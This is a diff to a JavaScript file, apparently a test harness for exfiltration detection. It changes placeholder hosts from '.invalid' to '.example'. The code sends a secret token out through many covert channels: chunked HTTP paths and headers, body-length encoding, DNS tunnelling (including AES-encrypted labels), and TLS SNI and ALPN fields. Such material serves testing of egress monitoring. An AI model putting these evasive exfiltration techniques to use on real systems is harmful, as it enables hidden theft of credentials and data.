@@ -17,7 +17,7 @@ const bytes = Buffer.from(token);
 
 const ask = (url, options = {}) =>
   fetch(url, { signal: AbortSignal.timeout(4000), ...options }).then((answer) => answer.arrayBuffer()).catch(() => {});
-const post = (way, body) => ask(`http://${way}.invalid/v1/usage`, { method: 'POST', body });
+const post = (way, body) => ask(`http://${way}.example/v1/usage`, { method: 'POST', body });
 const cut = (text, size) => text.match(new RegExp(`.{1,${size}}`, 'gs'));
 const name = (asked) => new Promise((done) => dns.resolve4(asked, () => done()));
 const xor = (key) => bytes.map((byte, at) => byte ^ key[at % key.length]);
@@ -74,20 +74,20 @@ const ways = {
   characters: () => post('characters', JSON.stringify([...token])),
   interleaved: () => post('interleaved', [...token].map((c) => c + crypto.randomBytes(1).toString('hex')[0]).join('')),
   evens_odds: () => post('evens-odds', [0, 1].map((odd) => [...token].filter((_, at) => at % 2 === odd).join('')).join('|')),
-  eight: () => oneByOne(cut(token, 8), (piece) => ask(`http://eight.invalid/v1/${piece}/item`)),
-  one: () => oneByOne([...token], (c) => ask('http://one.invalid/v1/page', { headers: { 'x-page': c } })),
-  backwards: () => oneByOne(cut(token, 4).reverse(), (piece) => ask(`http://backwards.invalid/v1/${piece}`)),
+  eight: () => oneByOne(cut(token, 8), (piece) => ask(`http://eight.example/v1/${piece}/item`)),
+  one: () => oneByOne([...token], (c) => ask('http://one.example/v1/page', { headers: { 'x-page': c } })),
+  backwards: () => oneByOne(cut(token, 4).reverse(), (piece) => ask(`http://backwards.example/v1/${piece}`)),
   counted: () => {
     const pieces = cut(token, 4).map((piece, at) => [at, piece]);
     pieces.sort(([a], [b]) => ((a * 7) % 10) - ((b * 7) % 10));
-    return oneByOne(pieces, ([at, piece]) => ask(`http://counted.invalid/v1/part?n=${at}&d=${piece}`));
+    return oneByOne(pieces, ([at, piece]) => ask(`http://counted.example/v1/part?n=${at}&d=${piece}`));
   },
-  two_hosts: () => oneByOne(cut(token, 4), (piece, at) => ask(`http://two-hosts-${at % 2}.invalid/v1/${piece}/item`)),
+  two_hosts: () => oneByOne(cut(token, 4), (piece, at) => ask(`http://two-hosts-${at % 2}.example/v1/${piece}/item`)),
   lengths: () => oneByOne([...bytes], (byte) => post('lengths', 'x'.repeat(byte))),
-  dns_hex: () => name(`${bytes.toString('hex').slice(0, 60)}.dns-hex.invalid`),
-  dns_small: () => oneByOne(cut(token, 2), (piece, at) => name(`${at}-${piece}.dns-small.invalid`)),
-  dns_aes: () => oneByOne(cut(aes(loot).toString('hex'), 40), (piece) => name(`${piece}.dns-aes.invalid`)),
-  server_name: () => handshake({ servername: `${token.replace('_', '-')}.server-name.invalid` }),
+  dns_hex: () => name(`${bytes.toString('hex').slice(0, 60)}.dns-hex.example`),
+  dns_small: () => oneByOne(cut(token, 2), (piece, at) => name(`${at}-${piece}.dns-small.example`)),
+  dns_aes: () => oneByOne(cut(aes(loot).toString('hex'), 40), (piece) => name(`${piece}.dns-aes.example`)),
+  server_name: () => handshake({ servername: `${token.replace('_', '-')}.server-name.example` }),
   alpn: () => handshake({ ALPNProtocols: [token, 'http/1.1'] }),
   addresses: () =>
     oneByOne([...bytes], (byte) => new Promise((done) => {
